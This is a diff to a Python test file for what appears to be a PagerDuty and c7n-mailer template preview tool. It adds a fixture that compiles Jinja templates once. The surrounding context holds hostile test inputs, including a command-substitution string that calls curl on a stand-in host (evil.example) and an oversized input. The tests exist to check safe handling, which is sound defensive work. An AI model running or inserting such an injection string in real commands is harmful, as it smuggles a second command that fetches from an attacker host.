@@ -4,8 +4,10 @@ import os
 import shutil
 from datetime import date
 from html.parser import HTMLParser
+from unittest import mock
 
 import pytest
+from c7n_mailer import utils
 from hypothesis import given, settings
 from hypothesis.strategies import dates, text
 from pagerduty import broken_rules as broken_rules_of_pagerduty
@@ -56,6 +58,14 @@ HOSTILE = {
     "another command": "aws ec2 describe-instances $(curl evil.example)",
     "endless": "long " * 20_000,
 }
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _compiled_once():
+    """Have c7n-mailer compile each template once for all messages; it does so for each, which is most of the time."""
+    environment = utils.get_jinja_env([preview.TEMPLATES])
+    with mock.patch.object(utils, "get_jinja_env", return_value=environment):
+        yield
 
 
 hostile_texts = pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
